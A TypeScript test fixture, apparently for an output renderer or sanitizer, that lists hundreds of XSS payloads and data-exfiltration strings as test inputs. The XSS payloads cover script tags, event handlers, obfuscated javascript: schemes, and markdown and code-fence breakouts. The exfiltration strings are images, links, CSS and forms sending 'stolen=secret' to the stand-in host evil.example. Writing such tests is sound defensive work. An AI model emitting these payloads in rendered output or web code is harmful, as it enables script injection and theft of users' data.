// Text that wants to run or to be fetched. Whoever may have written it (a model, a file, a session's name, an error), it
// is shown as text: no element, no attribute and no request may come of it.

/** The host to which nothing may ever be sent. */
export const ENEMY = "evil.example";

const CALL = "alert(1)";

const EVENTS = [
  "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter", "onwheel", "oncopy", "onpaste",
  "onbeforetoggle", "onscrollend", "ontransitionend", "onmessage", "onhashchange", "onresize",
];

const HOSTS = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "audio src=x", "iframe", "a href=#", "div style=animation-name:x"];

const SCHEMES = [
  "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:", "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:",
  "vbscript:", "data:text/html,", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:", "filesystem:",
  "command:workbench.action.terminal.new?", "vscode://file/", "vscode-webview://", "file:///etc/passwd#", "view-source:javascript:", "feed:javascript:", "livescript:",
];

const ELEMENTS = [
  `<script>${CALL}</script>`, `<ScRiPt>${CALL}</sCrIpT>`, `<script src=//${ENEMY}/x.js></script>`, `<script\u000d>${CALL}</script>`, `<<script>${CALL}//<</script>`,
  `<script type=module>${CALL}</script>`, `</textarea><script>${CALL}</script>`, `</title><script>${CALL}</script>`, `--><script>${CALL}</script>`, `]]><script>${CALL}</script>`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`, `<iframe src="javascript:${CALL}"></iframe>`, `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`, `<form action="javascript:${CALL}"><button>x</button></form>`, `<button formaction="javascript:${CALL}">x</button>`,
  `<base href="javascript:${CALL}//">`, `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<link rel=import href=//${ENEMY}>`,
  `<svg><script>${CALL}</script></svg>`, `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${CALL}">`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x">`, `<svg><foreignObject><body onload=${CALL}>`,
  `<math><mtext></table><mglyph><style><img src onerror=${CALL}>`, `<math href="javascript:${CALL}">x</math>`, `<math><maction actiontype="statusline#" xlink:href="javascript:${CALL}">x`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`, `<template><img src=x onerror=${CALL}></template>`, `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<style>@import '//${ENEMY}/x.css'</style>`, `<style>*{background:url(//${ENEMY})}</style>`, `<table background="javascript:${CALL}">`, `<marquee onstart=${CALL}>`,
  `<isindex type=image src=x onerror=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`, `<dialog open onclose=${CALL}>`, `<a href="javascript:${CALL}">x</a>`,
  `<a id=x><a id=x name=y href="cid:x">clobber</a>`, `<form id=root><input name=innerHTML>`, `<img name=getElementById>`, `<form name=fake><input name=posted></form>`,
  `<select><noembed></select><script>${CALL}</script>`, `<frameset onload=${CALL}>`, `<a href="x" style="position:fixed;inset:0">cover</a>`, `<custom-element onclick=${CALL}>`,
  `{{constructor.constructor('${CALL}')()}}`, `\${${CALL}}`, `<%= ${CALL} %>`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
  `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, `\`><img src=x onerror=${CALL}>`, `" onmouseover=${CALL} x="`, `' autofocus onfocus=${CALL} x='`,
  `&lt;img src=x onerror=${CALL}&gt;`, `&#60;script&#62;${CALL}&#60;/script&#62;`, `%3Cscript%3E${CALL}%3C/script%3E`, `\\u003cscript\\u003e${CALL}`, `+ADw-script+AD4-${CALL}`,
  `<img src=x:x onerror\u000c=${CALL}>`, `<img/src=x/onerror=${CALL}>`, `<img src=x onerror="&#97;lert(1)">`, `<IMG """><SCRIPT>${CALL}</SCRIPT>">`, `<img src=\`x\` onerror=${CALL}>`,
];

const MARKDOWN = [
  (scheme: string) => `[x](${scheme}${CALL})`,
  (scheme: string) => `[x](<${scheme}${CALL}>)`,
  (scheme: string) => `![x](${scheme}${CALL})`,
  (scheme: string) => `[x][y]\n\n[y]: ${scheme}${CALL}`,
  (scheme: string) => `<${scheme}${CALL}>`,
];

const FENCES = [
  `\`\`\`"><img src=x onerror=${CALL}>\ncode\n\`\`\``, `\`\`\`html\n<script>${CALL}</script>\n\`\`\``, `~~~'onclick=${CALL}\ncode\n~~~`, `\`\`\`js class="x" onload=${CALL}\n1\n\`\`\``,
  `\`\`\`xml\n<a b="&quot;><img src=x onerror=${CALL}>">\n\`\`\``, `\`<img src=x onerror=${CALL}>\``, `| a | b |\n|:-"onload=${CALL}|-|\n| <img src=x onerror=${CALL}> | 2 |`,
  `# <img src=x onerror=${CALL}>`, `> <svg onload=${CALL}>`, `- <script>${CALL}</script>`, `[<img src=x onerror=${CALL}>](https://a.example)`,
  `[x](https://a.example "x\\" onmouseover=${CALL} y")`, `![" onerror=${CALL} x](https://a.example/x.png)`, `https://a.example/"onmouseover=${CALL}`, `[x](https://a.example/\`onclick=${CALL})`,
];

/** Strings that try to run something. */
export const XSS: readonly string[] = [
  ...ELEMENTS,
  ...EVENTS.flatMap((event) => HOSTS.map((host) => `<${host} ${event}=${CALL}>`)),
  ...SCHEMES.flatMap((scheme) => MARKDOWN.map((form) => form(scheme))),
  ...FENCES,
];

const SECRET = `//${ENEMY}/?stolen=secret`;

const FETCHES = [
  (url: string) => `![x](${url})`,
  (url: string) => `![x](<${url}> "title")`,
  (url: string) => `![x][y]\n\n[y]: ${url}`,
  (url: string) => `[![x](${url})](${url})`,
  (url: string) => `<img src="${url}">`,
  (url: string) => `<img srcset="${url} 2x">`,
  (url: string) => `<picture><source srcset="${url}"><img></picture>`,
  (url: string) => `<video poster="${url}"><source src="${url}"></video>`,
  (url: string) => `<audio src="${url}" autoplay>`,
  (url: string) => `<link rel=stylesheet href="${url}">`,
  (url: string) => `<link rel=prefetch href="${url}">`,
  (url: string) => `<link rel=dns-prefetch href="${url}">`,
  (url: string) => `<link rel=preconnect href="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<form action="${url}"><input name=a value=b></form>`,
  (url: string) => `<a href="${url}" ping="${url}">x</a>`,
  (url: string) => `<svg><image href="${url}"/></svg>`,
  (url: string) => `<svg><use href="${url}#x"/></svg>`,
  (url: string) => `<svg><feImage href="${url}"/></svg>`,
  (url: string) => `<div style="background:url(${url})">x</div>`,
  (url: string) => `<style>@font-face{font-family:x;src:url(${url})}</style>`,
  (url: string) => `<input type=image src="${url}">`,
  (url: string) => `<body background="${url}">`,
  (url: string) => `<table background="${url}"><tr><td>x</table>`,
  (url: string) => `<track src="${url}">`,
  (url: string) => `[x](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `${url}`,
  (url: string) => `\`\`\`mermaid\ngraph TD; A[<img src=${url}>]\n\`\`\``,
  (url: string) => `<portal src="${url}">`,
  (url: string) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`,
];

const WAYS = [`https:${SECRET}`, `http:${SECRET}`, SECRET, `https://user:pass@${ENEMY}/a.png?q=%s`];

/** Strings that try to send something away. */
export const EXFILTRATION: readonly string[] = FETCHES.flatMap((form) => WAYS.map((url) => form(url)));

export const HOSTILE: readonly string[] = [...XSS, ...EXFILTRATION];
